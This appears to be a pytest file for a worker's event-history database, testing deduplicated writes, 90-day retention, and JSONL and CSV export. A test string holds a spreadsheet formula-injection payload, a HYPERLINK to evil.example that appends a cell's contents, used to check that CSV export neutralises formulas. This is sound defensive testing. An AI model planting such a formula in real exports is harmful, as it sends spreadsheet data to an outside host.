"""The history's database (worker/history/store.py, export.py): each event stored once, the
retention, the export, and migrations that build what the code writes; on SQLite and on a real
PostgreSQL server (slow)."""

from __future__ import annotations

import csv
import io
import json
import time

from alembic.autogenerate import compare_metadata
from alembic.migration import MigrationContext

from tests.support.history_db import HistoryDb, history_db, postgres_server
from worker.history import schema
from worker.history.export import rows_since, write_rows
from worker.history.rows import Event
from worker.history.store import count_rows, prune, write_events

__all__ = ["history_db", "postgres_server"]  # fixtures

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")\n"quoted", comma, 🦀 and a \x1b[31m escape'


def one_of_each(at: float, n: int = 0) -> list[Event]:
    trace = ["read_file payments/retry.py", "-1+1"]
    return [
        Event(f"q{n:031d}", "question", at, {"id": f"job{n}", "ref": "3f2a9c1d", "status": "answered",
                                             "question": HOSTILE, "trace": trace, "repos": ["payments"]}),
        Event(f"v{n:031d}", "vote", at, {"question_id": f"job{n}", "user": "U1", "vote": "down", "platform": "slack"}),
        Event(f"r{n:031d}", "reason", at, {"question_id": f"job{n}", "user": "U1", "reason": "@wrong file"}),
        Event(f"s{n:031d}", "sync", at, {"repo": "payments", "host": "w1", "origin": "catch-up", "ok": False,
                                         "sha": "", "changed": False, "error": "+fetch failed"}),
        Event(f"m{n:031d}", "model", at, {"kind": "timeout", "status": 0, "detail": "no reply"}),
    ]  # fmt: skip


def counts(db: HistoryDb) -> dict[str, int]:
    return {table.name: count_rows(db.engine, table) for table in schema.TABLES}


def test_every_event_becomes_its_rows_once_however_often_it_is_written(history_db: HistoryDb) -> None:
    events = one_of_each(time.time())
    write_events(history_db.engine, events)
    write_events(history_db.engine, events)  # a batch read again after a lost XACK
    assert counts(history_db) == {
        "questions": 1, "tool_calls": 2, "votes": 1, "reasons": 1, "syncs": 1, "model_events": 1,
    }  # fmt: skip


def test_retention_deletes_the_old_rows_of_every_table_and_keeps_the_rest(history_db: HistoryDb) -> None:
    now = time.time()
    write_events(history_db.engine, one_of_each(now - 91 * 86400, n=1) + one_of_each(now - 89 * 86400, n=2))
    deleted = prune(history_db.engine, retention_days=90, now=now)
    assert deleted == {
        "questions": 1,
        "tool_calls": 2,
        "votes": 1,
        "reasons": 1,
        "syncs": 1,
        "model_events": 1,
    }
    assert counts(history_db) == deleted  # what is left is the newer copy of each
    [vote] = rows_since(history_db.engine, schema.votes, 0)
    assert vote["question_id"] == "job2"


def test_the_jsonl_export_gives_back_every_row_and_hostile_text_as_it_was(history_db: HistoryDb) -> None:
    write_events(history_db.engine, [e for n in range(3) for e in one_of_each(1000.0 + n, n)])
    out = io.StringIO()
    written = write_rows(
        rows_since(history_db.engine, schema.questions, 1001.0), schema.questions, "jsonl", out
    )
    lines = out.getvalue().splitlines()
    assert written == len(lines) == 2  # --since 1001: the two newer questions, oldest first
    rows = [json.loads(line) for line in lines]
    assert [row["question_id"] for row in rows] == ["job1", "job2"]
    assert rows[0]["question"] == HOSTILE and rows[0]["ref"] == "3f2a9c1d"


def test_the_csv_export_keeps_a_spreadsheet_from_running_any_cell_as_a_formula(history_db: HistoryDb) -> None:
    write_events(history_db.engine, one_of_each(1000.0))
    cells = {}
    for table in (schema.questions, schema.reasons, schema.syncs, schema.tool_calls):
        out = io.StringIO()
        write_rows(rows_since(history_db.engine, table, 0), table, "csv", out)
        for row in csv.DictReader(io.StringIO(out.getvalue())):
            cells.update({f"{table.name}.{k}": v for k, v in row.items()})
    assert cells["questions.question"] == "'" + HOSTILE  # newlines and quotes survive the round trip
    assert cells["reasons.reason"] == "'@wrong file" and cells["syncs.error"] == "'+fetch failed"
    assert cells["tool_calls.line"] == "'-1+1"
    assert not any(v.startswith(("=", "+", "-", "@")) for v in cells.values())


def test_the_migrations_build_exactly_the_tables_the_code_writes(history_db: HistoryDb) -> None:
    with history_db.engine.connect() as connection:
        differences = compare_metadata(MigrationContext.configure(connection), schema.metadata)
    assert differences == []
